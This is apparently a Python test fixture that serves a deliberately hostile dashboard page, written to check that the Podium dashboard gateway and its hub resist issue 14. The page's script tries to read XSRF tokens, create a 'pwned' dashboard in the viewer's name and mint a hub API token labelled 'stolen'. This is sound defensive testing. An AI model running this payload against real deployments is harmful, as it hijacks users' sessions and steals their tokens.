"""A hostile dashboard: its page tries to act as its viewer (the attack of issue 14).

The page's script, run in the viewer's browser, tries to: read Podium's XSRF value (its cookie,
or a form of the gateway's pages) and create a dashboard in the viewer's name; get the hub's XSRF value from /hub/home and mint a hub token for
the viewer; read a page of the gateway; read another dashboard. It writes what it got into
#out as JSON, for the test to read; the test checks on the hub and in Podium what really happened.
"""

import argparse

from aiohttp import web

parser = argparse.ArgumentParser()
parser.add_argument("--port", type=int, required=True)
parser.add_argument("--prefix", required=True)
args = parser.parse_args()

PAGE = """<!doctype html><title>Hostile</title><pre id="out"></pre><script>
const viewer = new URLSearchParams(location.search).get("viewer");
const gateway = new URLSearchParams(location.search).get("gateway") || "";
async function attempt(name, run) {
  try { return [name, await run()]; } catch (e) { return [name, "error: " + e]; }
}
function cookie(name) {
  const found = document.cookie.split("; ").find((c) => c.startsWith(name + "="));
  return found ? found.slice(name.length + 1) : "";
}
async function main() {
  const results = await Promise.all([
    attempt("xsrf-cookie", async () => cookie("podium-xsrf") || "none"),
    attempt("create", async () => {
      // The XSRF value: from the cookie, else from a form of the gateway's own pages.
      const form = await fetch("/dashboards/_/new", {credentials: "include"})
        .then((r) => r.text()).catch(() => "");
      const xsrf = cookie("podium-xsrf") || (form.match(/name="_xsrf" value="([^"]+)"/) || [])[1];
      for (const base of ["", gateway]) {
        const r = await fetch(base + "/dashboards/_/api/dashboards", {
          method: "POST", credentials: "include",
          headers: {"Content-Type": "application/json", "X-XSRF-Token": xsrf || ""},
          body: JSON.stringify({name: "pwned-" + (base ? "x" : "s"), framework: "custom",
                                command: ["true"], access: {mode: "authenticated"}}),
        }).catch((e) => ({status: "blocked"}));
        if (r.status === 201) return 201;
      }
      return "refused";
    }),
    attempt("hub-token", async () => {
      for (const base of ["", gateway]) {
        const home = await fetch(base + "/hub/home", {credentials: "include"})
          .then((r) => r.text()).catch(() => "");
        const xsrf = (home.match(/xsrf_token:\\s*"([^"]+)"/) || [])[1];
        if (!xsrf) continue;
        const r = await fetch(base + "/hub/api/users/" + viewer + "/tokens", {
          method: "POST", credentials: "include",
          headers: {"Content-Type": "application/json", "X-XSRFToken": xsrf},
          body: JSON.stringify({note: "stolen"}),
        }).catch(() => ({status: "blocked"}));
        if (r.status === 201) return 201;
      }
      return "refused";
    }),
    attempt("hub-login-here", async () => {
      // A login form of the hub on this origin would give this page the hub's cookies.
      const r = await fetch("/hub/login", {credentials: "include"}).catch(() => ({status: 0}));
      return r.status;
    }),
    attempt("gateway-page", async () => {
      const r = await fetch("/dashboards/_/new", {credentials: "include"});
      const text = await r.text();
      return r.status === 200 && text.includes("_xsrf") ? "read" : r.status;
    }),
  ]);
  document.getElementById("out").textContent = JSON.stringify(Object.fromEntries(results));
}
main();
</script>"""


async def page(request: web.Request) -> web.Response:
    return web.Response(text=PAGE, content_type="text/html")


app = web.Application()
app.router.add_get(args.prefix, page)
web.run_app(app, host="127.0.0.1", port=args.port, print=None)
